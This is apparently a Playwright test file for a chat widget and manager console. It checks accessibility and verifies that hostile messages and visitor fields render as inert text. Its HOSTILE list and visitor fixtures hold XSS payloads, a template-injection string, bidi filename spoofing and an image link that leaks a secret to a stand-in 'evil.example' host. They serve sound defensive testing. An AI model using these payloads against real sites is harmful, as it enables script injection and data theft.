"""axe finds nothing serious on either page, in any state; and hostile content is harmless text."""

from collections.abc import AsyncIterator, Callable
from typing import Any

import pytest
from axe_playwright_python.base import AXE_SCRIPT
from playwright.async_api import Browser, Page, Request, expect

from tests.browser.conftest import ONE_LOOP, Person
from tests.browser.pages import Console, Widget
from tests.browser.states import console_states, widget_states
from tests.client import visitor
from tests.openai_server import Behaviour, OpenAIServer
from tests.server import Server

Serve = Callable[..., Server]
States = Callable[..., AsyncIterator[tuple[str, Page]]]

pytestmark = [ONE_LOOP, pytest.mark.timeout(600)]

RUN = """() => axe.run(document, {runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa",
  "best-practice"]})"""

# For who wants no motion, and in every state.
MOVING = """() => document.getAnimations().filter((one) => one.playState === "running")
  .map(({ animationName: name, transitionProperty, effect }) =>
    `${name ?? transitionProperty} of ${effect.target.className}`)"""
CUT = "document.documentElement.scrollWidth - document.documentElement.clientWidth"


async def serious(page: Page) -> list[str]:
    """What axe calls serious or critical, with where it is."""
    await page.evaluate(AXE_SCRIPT)
    found: dict[str, Any] = await page.evaluate(RUN)
    return [
        f"{one['id']}: {node['html'][:150]} {node['failureSummary'][:200]}"
        for one in found["violations"]
        if one["impact"] in ("serious", "critical")
        for node in one["nodes"]
    ]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("states", [console_states, widget_states])
async def test_axe_finds_nothing_serious_in_any_state_and_nothing_moves_or_is_cut_off(
    serve: Serve, openai_server: OpenAIServer, browser: Browser, states: States, scheme: str
) -> None:
    server = serve(OPENAI_KEY="key", OPENAI_BASE_URL=openai_server.base_url, QUIET_SECONDS="0")
    width = 1280 if scheme == "light" else 390
    options = {"viewport": {"width": width, "height": 800}, "color_scheme": scheme}
    found, seen = {}, []
    async for state, page in states(
        browser, server, openai_server, **options, bypass_csp=True, reduced_motion="reduce"
    ):
        seen.append(state)
        if wrong := await serious(page):
            found[state] = wrong
        if moving := await page.evaluate(MOVING):
            found[f"{state}, moving"] = moving
        if (cut := await page.evaluate(CUT)) > 0:
            found[f"{state}, wider than the page"] = [f"{cut} px"]
    more = {"palette", "help", "account"} if states is console_states else set()
    assert {"empty", "busy", "waiting", "streaming", "disconnected"} | more <= set(seen)
    assert not found


HOSTILE = [
    "<script>window.pwned = 1</script>",
    '<img src=x onerror="window.pwned = 1">',
    "<svg onload='window.pwned = 1'>",
    "[click me](javascript:window.pwned=1)",
    "![a picture](https://evil.example/pixel.png?secret=1)",
    "<iframe src='https://evil.example/'></iframe>",
    "<style>body { display: none }</style>",
    "\u202egnp.exe\u202c and \u2066\u2067 nothing closes this",
    "</div></main></body><h1>outside</h1>",
    "{{constructor.constructor('window.pwned = 1')()}}",
]


async def test_hostile_content_is_harmless_text_in_both_pages(
    serve: Serve, openai_server: OpenAIServer, person: Person
) -> None:
    server = serve(
        OPENAI_KEY="key",
        OPENAI_BASE_URL=openai_server.base_url,
        QUIET_SECONDS="0",
        MESSAGES_PER_MINUTE="0",
    )
    asked: list[str] = []
    dialogs: list[str] = []

    def watch(page: Page) -> None:
        def heard(request: Request) -> None:
            asked.append(request.url)

        page.on("request", heard)
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))

    console = Console(await person(f"{server.url}/manager"))
    widget = Widget(await person(f"{server.url}/"))
    watch(console.page)
    watch(widget.page)
    await widget.open()
    for text in HOSTILE:
        openai_server.script(Behaviour(text=f"answer: {text}"))
        await widget.say(text)
        await expect(widget.page.locator(".panel .row.theirs:not(.draft)")).to_have_count(
            HOSTILE.index(text) + 1
        )
    lines = "line\n" * 10_000
    openai_server.script(Behaviour(text=lines))
    await widget.say("ten thousand lines, please")
    await expect(widget.page.locator(".panel .row.theirs:not(.draft)")).to_have_count(
        len(HOSTILE) + 1
    )
    await console.page.locator(".chat").first.click()
    await expect(console.page.locator(".conversation .row.theirs")).to_have_count(len(HOSTILE) + 2)
    for page, root in ((widget.page, ".panel"), (console.page, ".conversation")):
        for text in HOSTILE[:3]:
            # As it was written, from the visitor and in the list.
            await expect(page.locator(f"{root} .body", has_text=text).first).to_be_visible()
        harmful = "script, iframe, style, img, [onerror], [onload], a[href^='javascript']"
        within = f"{root} :is({harmful})"
        assert await page.locator(within).count() == 0
        assert await page.evaluate("window.pwned") is None
        for link in await page.locator(f"{root} .body a").all():
            assert (await link.get_attribute("href") or "").startswith(("https:", "mailto:"))
            assert "noopener" in (await link.get_attribute("rel") or "")
        assert await page.locator("h1", has_text="outside").count() == 0
    assert not dialogs
    assert all(url.startswith((server.url, server.url.replace("http", "ws"))) for url in asked)
    assert not [url for url in asked if "evil" in url]


async def test_names_and_pages_that_visitors_give_are_text_too(
    serve: Serve, person: Person
) -> None:
    server = serve()
    evil = {"name": "<img src=x onerror=alert(1)>", "email": "<b>@x"}
    made = server.post("/chats", {"visitor": evil, "page_url": "javascript:alert(1)"}).json()
    async with visitor(server, made["chat_id"]) as client:
        await client.say("hello")
    console = Console(await person(f"{server.url}/manager"))
    await console.choose("onerror")
    await expect(console.page.locator(".conversation h2")).to_have_text(evil["name"])
    assert await console.page.locator(".console img, .console a[href^=javascript]").count() == 0
